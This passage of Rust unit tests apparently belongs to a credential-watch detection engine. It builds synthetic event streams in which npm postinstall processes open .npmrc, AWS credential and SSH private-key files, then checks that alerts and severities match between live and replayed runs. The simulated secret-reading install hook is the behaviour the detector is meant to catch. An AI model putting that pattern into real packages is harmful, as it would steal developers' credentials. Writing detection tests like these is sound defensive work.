    let mut at = |pid: u32, after_ms: u64, data: EventData| {
        time_ns += after_ms * 1_000_000;
        events.push(Event { time_ns, pid, data });
    };
    let exec = |ppid: u32, args: &[&str], env: &[(&str, &str)]| {
        EventData::Exec(Exec {
            ppid,
            filename: args[0].into(),
            executable: args[0].into(),
            args: args.iter().map(|a| (*a).to_owned()).collect(),
            cwd: "/home/alice/app".into(),
            env: env.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect(),
            ..Exec::default()
        })
    };
    let open = |path: &str| {
        EventData::Open(Open {
            syscall: "openat".into(),
            dirfd: AT_FDCWD,
            path: path.into(),
            abs_path: Some(path.into()),
            ret: 3,
            ..Open::default()
        })
    };
    at(100, 0, exec(1, &["npm", "install"], &[("HOME", "/home/alice")]));
    for pid in [101, 102] {
        at(100, 1, EventData::Fork(Fork { child_pid: pid }));
        at(pid, 1, exec(100, &["node", "x.js"], POSTINSTALL));
    }
    // 101 reads a chain (the last file lowered at once); 102 reads the project's file alone.
    at(101, 7, open(PROJECT_NPMRC));
    at(102, 7, open(PROJECT_NPMRC));
    at(101, 7, open("/home/alice/.npmrc"));
    at(102, 7, open("/home/alice/.aws/credentials"));
    at(101, 7, open("/home/alice/app/sub/.npmrc"));
    // Long after: lone reads, one ended by its process's exit, one by the end of the stream.
    at(102, 200, open("/home/alice/.npmrc"));
    at(102, 7, EventData::Exit(Exit { code: 0, repeats: 0 }));
    at(101, 7, open("/home/alice/.yarnrc.yml"));
    events
}

#[test]
fn held_alerts_are_the_same_live_with_the_clock_ticking_as_in_a_replay() {
    let events = chain_session();
    let engine = || {
        Engine::new(RuleSet::defaults().unwrap(), EngineOptions { host_name: "box".into(), ..EngineOptions::default() })
    };
    let mut replay = engine();
    let mut replayed: Vec<Alert> = events.iter().flat_map(|event| replay.handle(event)).collect();
    replayed.extend(replay.flush());
    // Live: between two events the clock ticks, up to just before the next one.
    let mut live = engine();
    let mut seen = Vec::new();
    for (i, event) in events.iter().enumerate() {
        seen.extend(live.handle(event));
        let next = events.get(i + 1).map_or(u64::MAX, |next| next.time_ns - 1);
        for now in [event.time_ns + 1, event.time_ns + CHAIN_WINDOW_NS, next] {
            if now <= next {
                seen.extend(live.tick(now));
            }
        }
    }
    seen.extend(live.flush());
    let key = |alerts: &[Alert]| {
        alerts.iter().map(|a| (a.event.id.clone(), a.rule.severity, a.timestamp.clone())).collect::<Vec<_>>()
    };
    assert_eq!(key(&seen), key(&replayed));
    let told: Vec<(&str, &str, Severity)> = severities(&replayed);
    assert!(told.contains(&("npm-registry-token", PROJECT_NPMRC, Severity::Low)), "{told:#?}");
    assert!(told.contains(&("npm-registry-token", PROJECT_NPMRC, Severity::High)), "{told:#?}");
}

#[test]
fn a_registered_selftest_trees_alerts_are_marked_until_its_root_exits() {
    let roots = SelftestRoots::default();
    let mut run = Run::new();
    run.engine.mark_selftests(Arc::clone(&roots));
    run.exec(100, 1, &["npm", "install"], &[]).spawn(101, 100, &["node", "x.js"], POSTINSTALL);
    run.exec(200, 1, &["npm", "install"], &[]).spawn(201, 200, &["node", "x.js"], POSTINSTALL);
    roots.lock().unwrap().insert(100);
    run.open(101, "/home/alice/.npmrc").open(201, "/home/alice/.npmrc");
    let marked: Vec<(u32, bool)> = run.take().iter().map(|a| (a.credwatch.root_pid, a.credwatch.selftest)).collect();
    assert_eq!(marked, [(100, true), (200, false)]);
    run.exit(100);
    assert!(roots.lock().unwrap().is_empty(), "the root left the set when it exited");
    run.open(101, "/home/alice/.ssh/id_rsa");
    let alert = run.one();
    assert_eq!((alert.credwatch.root_pid, alert.credwatch.selftest), (100, false));
    let json = serde_json::to_value(&alert).unwrap();
    assert!(json["credwatch"].get("selftest").is_none(), "absent when false: {json}");
}
